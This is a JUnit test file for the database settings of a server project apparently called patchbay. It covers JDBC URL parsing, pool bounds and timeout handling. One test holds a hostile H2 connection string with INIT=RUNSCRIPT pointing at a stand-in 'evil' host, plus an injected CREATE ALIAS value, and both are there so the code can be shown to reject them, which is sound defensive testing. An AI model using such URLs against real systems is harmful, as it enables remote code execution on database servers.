package io.patchbay.server.impl.db;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.patchbay.server.store.StoreUnavailableException;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;

/** URL schemes, pool bounds and an unreachable database: refused with a clear message, before any use. */
class DatabaseSettingsTest {

    @Test
    void vendorComesFromTheUrl() {
        assertEquals(Vendor.H2, Vendor.fromUrl("jdbc:h2:file:/tmp/x/patchbay"));
        assertEquals(Vendor.POSTGRESQL, Vendor.fromUrl("jdbc:postgresql://127.0.0.1:5432/patchbay"));
        assertEquals(Vendor.POSTGRESQL, Vendor.fromUrl("JDBC:POSTGRESQL://db/patchbay"));
    }

    @Test
    void unknownSchemesAreRefusedByName() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> Vendor.fromUrl("jdbc:mysql://db/patchbay"));
        assertTrue(e.getMessage().contains("'jdbc:mysql:'"), e.getMessage());
        assertTrue(e.getMessage().contains("jdbc:postgresql:"), e.getMessage());
        assertThrows(IllegalArgumentException.class, () -> Vendor.fromUrl("postgresql://db/patchbay"));
        assertThrows(IllegalArgumentException.class, () -> Vendor.fromUrl(""));
        assertThrows(IllegalArgumentException.class, () -> Vendor.fromUrl(null));
    }

    @Test
    void h2UrlsThatRunScriptsAreRefused() {
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> Vendor.fromUrl("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"));
        assertTrue(e.getMessage().contains("INIT="), e.getMessage());
        assertThrows(IllegalArgumentException.class, () -> Vendor.fromUrl("jdbc:h2:mem:x;init=CREATE ALIAS"));
    }

    @Test
    void poolAndTimeoutAreBounded() {
        assertThrows(IllegalArgumentException.class,
                () -> new DatabaseSettings("jdbc:h2:mem:x", "u", "", 0, Duration.ofSeconds(1)));
        assertThrows(IllegalArgumentException.class,
                () -> new DatabaseSettings("jdbc:h2:mem:x", "u", "", 65, Duration.ofSeconds(1)));
        assertThrows(IllegalArgumentException.class,
                () -> new DatabaseSettings("jdbc:h2:mem:x", "u", "", 4, Duration.ofMillis(10)));
        assertThrows(IllegalArgumentException.class,
                () -> new DatabaseSettings("jdbc:h2:mem:x", "u", "", 4, Duration.ofMinutes(5)));
    }

    @Test
    void embeddedDefaultIsAnH2FileInTheDataDirectory() {
        DatabaseSettings settings = DatabaseSettings.embedded(Path.of("/var/lib/patchbay"));
        assertTrue(settings.jdbcUrl().startsWith("jdbc:h2:file:/var/lib/patchbay/patchbay;"), settings.jdbcUrl());
        assertEquals(Vendor.H2, settings.vendor());
        assertTrue(!settings.toString().contains("password"));
    }

    @Test
    void unreachableDatabaseIsUnavailableWithinTheTimeout() {
        // Port 1 on loopback: nothing listens, so the connection is refused at once.
        DatabaseSettings settings = new DatabaseSettings("jdbc:postgresql://127.0.0.1:1/patchbay?connectTimeout=1",
                "u", "p", 2, Duration.ofMillis(500));
        long start = System.nanoTime();
        StoreUnavailableException e = assertThrows(StoreUnavailableException.class, () -> Database.open(settings));
        assertTrue(Duration.ofNanos(System.nanoTime() - start).compareTo(Duration.ofSeconds(10)) < 0);
        assertTrue(e.getMessage().contains("127.0.0.1:1"), e.getMessage());
    }
}
